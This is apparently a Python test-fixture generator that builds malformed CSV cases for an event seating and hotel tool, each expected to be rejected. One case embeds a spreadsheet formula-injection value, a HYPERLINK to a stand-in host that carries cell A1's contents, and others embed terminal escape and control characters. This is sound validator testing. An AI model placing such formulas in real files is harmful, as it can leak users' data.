"""Hostile or careless input, one idea each. The page of each tells the places, counted as messages do."""

from .small import EVENT, HALL_HEADER, delegates, event, hall, hall_event, leaders, people, rostrum_event
from .tables import EVENT_HEADER, in_folder, page, table

ROOMS_HEADER = ["hotel", "floor", "room", "type", "beds", "price", "from", "to"]
ROOMS = [["Garden", 3, 301, "suite", "", 800, "", ""], ["Garden", 3, 302, "twin", "", 300, "", ""]]


def files():
    """All events of the family."""
    return {path: content for name, (idea, tables) in cases().items()
            for path, content in in_folder(f"malformed/{name}", tables | {"README.md": readme(name, idea)}).items()}


def readme(name, idea):
    """The page of a case."""
    title = name.replace("-", " ").capitalize()
    return page(title, f"All invented. {idea}", "It must be refused, with exit status 65.")


def cases():
    """What is wrong, and the tables, by folder name."""
    sound = hall_event(delegates())
    return {
        "missing-column": (
            "people.csv has no `name`.",
            sound | {"people.csv": table(["id", "group"], [["P01", "North"], ["P02", "South"]])}),
        "many-problems": (
            "Six at once: event.csv:3:2 (no such day), people.csv:3:4 (unknown role, close to delegate), "
            "people.csv:5:5 (unknown gender), people.csv:8:2 (no name), hall.csv:3:4 and "
            "hall.csv:4:2 (no numbers).",
            many_problems()),
        "duplicate-ids": (
            "people.csv:9:1 has the id of row 3.",
            hall_event(delegates(hal={"id": "P02"}))),
        "duplicate-seats": (
            "hall.csv:6 has seats 5 and 6 of A, row 1, once more.",
            sound | {"hall.csv": hall() + b"A,1,5,8\n"}),
        "unknown-section": (
            "groups.csv:3:3 binds a group to a section the hall does not have.",
            sound | {"groups.csv": table(["group", "order", "section"], [["North", 1, "A"], ["South", 2, "Z"]])}),
        "rooms": (
            "Seven at once: rooms.csv:4:3 is row 2 again, rooms.csv:5:5 has no bed, rooms.csv:6:5 no number "
            "of beds, rooms.csv:7:6 no number for a price, rooms.csv:8:8 closes before it opens; people.csv:5:5 has no "
            "gender for a twin, people.csv:6:7 leaves before the arrival.",
            rooms()),
        "hotel-not-there": (
            "groups.csv:3:2 and people.csv:3:7 name hotels that are not there (one close to Garden), people.csv:4:7 a "
            "room that is not.",
            lodging_event(
                delegates(ben={"room_type": "twin", "room": "Gardn"},
                          cleo={"room_type": "twin", "room": "Garden-999"}), ROOMS)
            | {"groups.csv": table(["group", "hotel"], [["North", "Garden"], ["South", "Sea View"]])}),
        "unknown-person": (
            "people.csv:4:6 names nobody (close to Leo); people.csv:6:6 names two people of one name.",
            hall_event(delegates(cleo={"beside": "Leoo"}, eva={"beside": "Jon"}, kim={"name": "Jon"}))),
        "seat-not-there": (
            "people.csv:4:6 is pinned to a row the hall does not have, people.csv:6:6 is no seat at all.",
            hall_event(delegates(cleo={"seat": "A-9-1"}, eva={"seat": "somewhere"}))),
        "rostrum-seat-not-there": (
            "people.csv:4:5 is pinned to seat 7 of a row of 5.",
            rostrum_event(leaders(cleo={"seat": "rostrum:1-7"}))),
        "unclosed-quote": (
            "A quote opens at people.csv:3:2 and never closes.",
            sound | {"people.csv": b'id,name,group\nP01,Ada,North\nP02,"Ben,North\nP03,Cleo,South\n'}),
        "formula-cell": (
            "people.csv:3:2 is a formula that was saved as text; a spreadsheet would take people.csv:5:2 and "
            "people.csv:7:2 for formulas too.",
            hall_event(delegates(
                ben={"name": '=HYPERLINK("http://example.invalid/?"&A1,"Ben")'}, dan={"name": "-1+2"},
                finn={"name": "@here"}))),
        "control-characters": (
            "people.csv:3:2 holds an escape sequence, people.csv:5:2 a null, people.csv:7:2 a bell.",
            hall_event(delegates(ben={"name": "Ben\x1b[31m"}, dan={"name": "Da\x00n"}, finn={"name": "Finn\x07"}))),
        "two-people-tables": (
            "people.csv and 人员.csv are one table.",
            sound | {"人员.csv": table(["编号", "姓名", "分组"], [["P01", "王建国", "东区"], ["P02", "李秀英", "西区"]])}),
        "no-people": (
            "There is no table of people.",
            {"event.csv": event(), "hall.csv": hall()}),
        "empty-people": (
            "people.csv has no byte.",
            sound | {"people.csv": b""}),
        "not-text": (
            "people.csv is neither UTF-8, UTF-16 nor GB18030.",
            sound | {"people.csv": b"id,name\nP01,\xff\xff\xfe\x00\x80\n"}),
        "huge-numbers": (
            "Numbers no machine word holds, or that ask for more seats than there are people on earth: "
            "people.csv:2:4, hall.csv:2:4, hall.csv:3:2, rostrum.csv:2:2.",
            huge_numbers()),
    }


def many_problems():
    """Problems of several tables at once."""
    rows = delegates(ben={"role": "delegat"}, dan={"gender": "X"}, gina={"name": ""})
    return {
        "event.csv": table(EVENT_HEADER, [EVENT[0], ["start", "2026-02-30"], *EVENT[2:]]),
        "people.csv": people(rows),
        "hall.csv": table(HALL_HEADER, [["A", 1, 1, 6], ["A", 2, 1, "six"], ["A", "三", 1, 6]]),
    }


def rooms():
    """Problems of rooms and of who is to have them."""
    return lodging_event(
        delegates(dan={"room_type": "twin", "gender": ""}, eva={"room_type": "single", "check_out": "2026-05-10"}),
        [*ROOMS, ["Garden", 4, 301, "twin", "", 300, "", ""], ["Garden", 4, 402, "single", 0, 300, "", ""],
         ["Garden", 4, 403, "twin", "one", 300, "", ""], ["Garden", 4, 404, "twin", "", "cheap", "", ""],
         ["Garden", 4, 405, "twin", "", 300, "2026-05-12", "2026-05-11"]])


def lodging_event(rows, rooms):
    """An event with a hall and a hotel."""
    return hall_event(rows) | {"rooms.csv": table(ROOMS_HEADER, rooms)}


def huge_numbers():
    """Numbers that overflow."""
    much = "9" * 30
    return hall_event(delegates(ada={"rank": "1e999"})) | {
        "hall.csv": table(HALL_HEADER, [["A", 1, 1, much], ["A", much, 1, 6]]),
        "rostrum.csv": table(["row", "seats"], [[1, 9223372036854775807]])}
